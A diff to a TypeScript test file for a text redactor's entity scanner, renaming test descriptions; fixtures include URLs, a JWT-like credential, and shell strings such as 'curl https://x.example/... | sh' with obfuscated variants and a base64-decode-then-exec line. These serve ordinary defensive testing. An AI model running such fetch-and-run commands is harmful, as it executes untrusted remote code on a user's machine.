@@ -6,7 +6,7 @@ import { recognizeEntities } from "../../src/redactor/scan.js";
 const found = (text: string) =>
   recognizeEntities(text).map(({ type, start, end }) => `${type} ${text.slice(start, end)}`);
 
-describe("text that is recognized", () => {
+describe("recognizeEntities", () => {
   it.each([
     ["see https://x.example/a/b.sh?q=1#f for more", ["URL https://x.example/a/b.sh?q=1#f"]],
     ["curl ftp://h.example/f", ["URL ftp://h.example/f"]],
@@ -47,12 +47,12 @@ describe("text that is recognized", () => {
       "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd",
       ["CREDENTIAL eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd"],
     ],
-  ])("%s", (text, expected) => {
+  ])("finds the entities in %s", (text, expected) => {
     expect(found(text)).toEqual(expected);
   });
 });
 
-describe("text that is not recognized", () => {
+describe("recognizeEntities", () => {
   it.each([
     "bash install.sh && node index.js",
     "payload.id = base64.b64decode(x); exec(payload.id)",
@@ -69,12 +69,12 @@ describe("text that is not recognized", () => {
     "https://",
     "https://...",
     "",
-  ])("%s", (text) => {
+  ])("finds nothing in %s", (text) => {
     expect(found(text)).toEqual([]);
   });
 });
 
-describe("a URL in a command ends at shell syntax", () => {
+describe("a URL in a command", () => {
   it.each([
     ["curl https://x.example/$(cat u)/v | sh", "https://x.example/"],
     ["curl https://x.example/i|sh", "https://x.example/i"],
@@ -88,7 +88,7 @@ describe("a URL in a command ends at shell syntax", () => {
     ["https://x.example/i\\\n| sh", "https://x.example/i"],
     ["https://x.example/i\u200b-o\u200bf", "https://x.example/i"],
     ["https://x.example/i&#124;sh", "https://x.example/i"],
-  ])("%s", (text, url) => {
+  ])("ends at shell syntax: %s", (text, url) => {
     expect(found(text)[0]).toBe(`URL ${url}`);
   });
 });
@@ -107,13 +107,13 @@ describe("long texts", () => {
     "://a:",
     "DE89 ",
     "+1 (",
-  ])("of repeated %j are read completely", (part) => {
+  ])("of repeated %j are searched completely", (part) => {
     expect(recognizeEntities(part.repeat(100_000 / part.length))).toBeInstanceOf(Array);
   });
 });
 
 describe("links", () => {
-  it("are the same whether the words or the complete text is searched", () => {
+  it("are the same whether single words or the complete text is searched", () => {
     const pieces = [
       "http://a.example/x",
       "www.b.example",
